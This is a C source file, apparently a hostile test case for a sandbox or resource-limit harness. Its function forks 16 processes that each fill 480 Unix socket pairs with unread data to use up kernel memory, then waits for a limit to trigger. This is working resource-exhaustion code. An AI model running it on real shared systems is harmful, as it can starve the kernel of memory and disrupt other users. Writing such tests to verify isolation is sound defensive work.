// Uses memory of the kernel: many processes put data into many sockets, and nobody takes it out.
#include "hostile.h"

static void attack(void) {
    static char bytes[1 << 16];
    int done[2];
    char byte;
    if (pipe(done) != 0) return;
    for (int child = 0; child < 16; child++) {
        if (fork() != 0) continue;
        for (int number = 0; number < 480; number++) {
            int pair[2];
            if (socketpair(AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0, pair) != 0) _exit(0);
            for (int end = 0; end < 2; end++) {
                write(pair[end], bytes, sizeof bytes);
            }
            if (number == 479) write(done[1], "x", 1);
        }
        pause();
        _exit(0);
    }
    close(done[1]);
    for (int child = 0; child < 16; child++) {
        // Where there are no sockets, nobody says anything.
        struct timeval time = {.tv_sec = 15};
        fd_set ready;
        FD_ZERO(&ready);
        FD_SET(done[0], &ready);
        if (select(done[0] + 1, &ready, NULL, NULL, &time) <= 0 || read(done[0], &byte, 1) != 1) return;
    }
    wait_for_the_limit();
}
